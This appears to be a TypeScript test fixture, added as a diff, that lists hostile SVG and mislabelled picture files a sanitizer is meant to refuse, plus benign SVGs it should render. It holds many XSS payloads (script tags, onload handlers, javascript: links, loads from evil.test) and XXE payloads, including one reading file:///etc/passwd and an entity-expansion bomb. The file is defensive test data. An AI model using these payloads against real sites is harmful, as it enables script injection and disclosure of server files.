@@ -1,0 +1,103 @@
+// Hostile pictures: SVG that wants to run `ran()` or load from evil.test, and files that are named as pictures and are something else.
+// Each is refused with its rule, or it only draws: then it is shown in a lesson and opened by itself. Texts are attack-table.ts's.
+
+export type Picture = { name: string; text: string; refused?: string };
+
+const xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
+const svg = (inside: string, attributes = "") =>
+  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 320 180" ${attributes}>${inside}<rect width="320" height="180"/></svg>`;
+const html = 'xmlns="http://www.w3.org/1999/xhtml"';
+
+const refusing = (refused: string, all: Record<string, string>): Picture[] => Object.entries(all).map(([name, text]) => ({ name, text, refused }));
+const drawing = (all: Record<string, string>): Picture[] => Object.entries(all).map(([name, text]) => ({ name, text }));
+
+export const pictures: Picture[] = [
+  ...refusing("unsafe-svg", {
+    "script": svg("<script>ran()</script>"),
+    "script in capitals": svg("<SCRIPT>ran()</SCRIPT>"),
+    "script of a namespace of its own": `<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><!-- <svg --><s:script>ran()</s:script></s:svg>`,
+    "script from elsewhere": svg('<script href="//evil.test/a.js"/>'),
+    "script in HTML": svg(`<script ${html}>ran()</script>`),
+    "script as CDATA": svg("<script><![CDATA[ran()]]></script>"),
+    "onload": svg("", 'onload="ran()"'),
+    "onload in capitals": svg("", 'ONLOAD="ran()"'),
+    "onload of a shape": svg('<g onload="ran()"/>'),
+    "onclick": svg('<rect onclick="ran()" width="320" height="180"/>'),
+    "onbegin": svg('<animate onbegin="ran()" attributeName="x" dur="1s"/>'),
+    "onfocus": svg('<g tabindex="1" onfocusin="ran()"/>'),
+    "foreign object": svg(`<foreignObject width="320" height="180"><img ${html} src="x" onerror="ran()"/></foreignObject>`),
+    "iframe": svg(`<iframe ${html} src="javascript:parent.ran()"/>`),
+    "embedded object": svg(`<object ${html} data="//evil.test/"/>`),
+    "style with import": svg('<style>@import "//evil.test/a.css";</style>'),
+    "style with a font": svg("<style>@font-face{font-family:a;src:url(//evil.test/f)}</style>"),
+    "link": svg('<a href="javascript:ran()"><rect width="320" height="180"/></a>'),
+    "old link": svg(`<a ${xlink} xlink:href="javascript:ran()"><rect width="9" height="9"/></a>`),
+    "picture from elsewhere": svg('<image href="//evil.test/p.png" width="9" height="9"/>'),
+    "picture as data": svg('<image href="data:image/svg+xml,%3Csvg%20onload=ran()%3E" width="9" height="9"/>'),
+    "filter's picture": svg('<filter id="a"><feImage href="//evil.test/p.png"/></filter>'),
+    "use from elsewhere": svg('<use href="//evil.test/a.svg#a"/>'),
+    "old use from elsewhere": svg(`<use ${xlink} xlink:href="https://evil.test/a.svg#a"/>`),
+    "use of data": svg('<use href="data:image/svg+xml,%3Csvg%20id=a%20onload=ran()%3E#a"/>'),
+    "use of a script": svg('<use href="javascript:ran()"/>'),
+    "paint from elsewhere": svg('<rect fill="url(//evil.test/a#b)" width="9" height="9"/>'),
+    "second paint from elsewhere": svg('<rect fill="url(#a) url(//evil.test/a)" width="9" height="9"/>'),
+    "mask from elsewhere": svg('<rect mask="url(https://evil.test/a#b)" width="9" height="9"/>'),
+    "marker from elsewhere": svg('<path marker-end="url(//evil.test/a#b)" d="M0 0L9 9"/>'),
+    "cursor from elsewhere": svg('<g style="cursor:url(//evil.test/c),auto"/>'),
+    "background from elsewhere": svg('<g style="background:URL(//evil.test/c)"/>'),
+    "escaped paint": svg('<g style="background:u\\72l(//evil.test/c)"/>'),
+    "commented paint": svg('<g style="background:u/**/rl(//evil.test/c)"/>'),
+    "set of pictures": svg("<g style=\"background:image-set('//evil.test/c' 1x)\"/>"),
+    "import in an attribute": svg("<g style=\"@import '//evil.test/a.css'\"/>"),
+    "behaviour": svg('<g style="width:expression(ran())"/>'),
+    "change of a link by time": svg('<set attributeName="href" to="javascript:ran()"/>'),
+    "animated link": svg('<animate attributeName="href" values="javascript:ran()"/>'),
+    "handler": svg('<handler type="text/ecmascript">ran()</handler>'),
+    "listener": svg('<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="javascript:ran()"/>'),
+    "base": svg('<g xml:base="javascript:ran()//"/>'),
+    "style sheet": `<?xml-stylesheet href="//evil.test/a.css"?>${svg("")}`,
+    "style sheet that transforms": `<?xml-stylesheet type="text/xsl" href="#a"?>${svg('<g id="a"/>')}`,
+    "laughing entities": `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>${svg("<text>&c;</text>")}`,
+    "entity of a file": `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${svg("<text>&a;</text>")}`,
+    "entity from elsewhere": `<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://evil.test/a.dtd">%a;]>${svg("")}`,
+    "entity that is a script": `<!DOCTYPE svg [<!ENTITY a "<script>ran()</script>">]>${svg("&a;")}`,
+    "attributes by a DTD": `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "ran()">]>${svg("")}`,
+    "video": svg(`<video ${html} src="//evil.test/v"/>`),
+    "discarding": svg('<discard href="#a"/>'),
+    "without a namespace": '<svg viewBox="0 0 9 9" onload="ran()"/>',
+  }),
+  ...refusing("picture-broken", {
+    "a thousand inside each other, open": svg("<g>".repeat(1000)),
+    "thirty thousand nodes": svg("<g/>".repeat(30_000)),
+    "attribute twice": svg('<g id="a" id="b"/>'),
+    "unknown entity": svg("<text>&nbsp;</text>"),
+    "broken mark": svg("<g/ onload=ran()>"),
+    "two roots": `${svg("")}${svg("<script>ran()</script>")}`,
+    "no size": '<svg xmlns="http://www.w3.org/2000/svg"/>',
+    "a control sign": svg("<text>\u0001</text>"),
+  }),
+  ...refusing("picture-kind", {
+    "HTML": "<!DOCTYPE html><script>ran()</script>",
+    "HTML behind spaces": "\n\n <html><body onload=ran()>",
+    "script": "ran()",
+    "GIF that is a script": "GIF89a=1;ran()",
+    "PDF": "%PDF-1.7",
+    "nothing": "",
+  }),
+  ...refusing("picture-too-large", { "a mile wide": svg("").replace("320 180", "99999 1"), "without end": svg("").replace("320 180", "1e999 1") }),
+  ...drawing({
+    "a plain one": svg(""),
+    "a comment with a script": svg("<!-- <script>ran()</script> -->"),
+    "a title with HTML in it": svg("<title>&lt;script&gt;ran()&lt;/script&gt;</title>"),
+    "text as CDATA": svg("<text><![CDATA[<script>ran()</script>]]></text>"),
+    "a use of its own": svg('<g id="a"/><use href="#a"/>'),
+    "ten uses inside each other": svg(`<g id="a0"/>${Array.from({ length: 10 }, (_, at) => `<g id="a${at + 1}"><use href="#a${at}"/><use href="#a${at}"/></g>`).join("")}`),
+    "a use of itself": svg('<g id="a"><use href="#a"/></g>'),
+    "paint of its own": svg('<linearGradient id="a"/><rect fill="url(#a)" width="9" height="9"/>'),
+    "an encoding that it isn't in": `<?xml version="1.0" encoding="UTF-7"?>${svg("<text>+ADw-script+AD4-ran()+ADw-/script+AD4-</text>")}`,
+    "another encoding": `<?xml version="1.0" encoding="Shift_JIS"?>${svg("<text>\u8868\u2026\"onload=\"ran()</text>")}`,
+    "an old encoding": `<?xml version="1.0" encoding="ISO-2022-JP"?>${svg('<text font-family="a">$B"onload="ran()</text>')}`,
+    "a thousand inside each other": svg(`${"<g>".repeat(900)}${"</g>".repeat(900)}`),
+    "attributes that look like others": svg('<g data-onload="ran()" aria-onclick="ran()"/>'),
+  }),
+];
